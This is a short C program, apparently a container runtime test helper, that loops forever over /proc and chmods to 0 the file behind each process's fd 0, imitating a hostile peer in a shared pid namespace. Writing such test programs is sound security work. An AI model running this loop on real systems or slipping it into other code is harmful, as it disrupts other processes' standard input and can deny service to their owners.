/* A container program that may ptrace (CAP_SYS_PTRACE): over and over,
 * chmods to 0 the file on fd 0 of every process it sees, through
 * /proc/PID/fd/0, as fast as it can: what a peer in a shared pid
 * namespace could do to the stdio of a process born there. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>

int main(void) {
    char path[64];
    for (;;) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        struct dirent *e;
        while ((e = readdir(proc)) != NULL) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/fd/0", e->d_name);
            chmod(path, 0);
        }
        closedir(proc);
    }
}
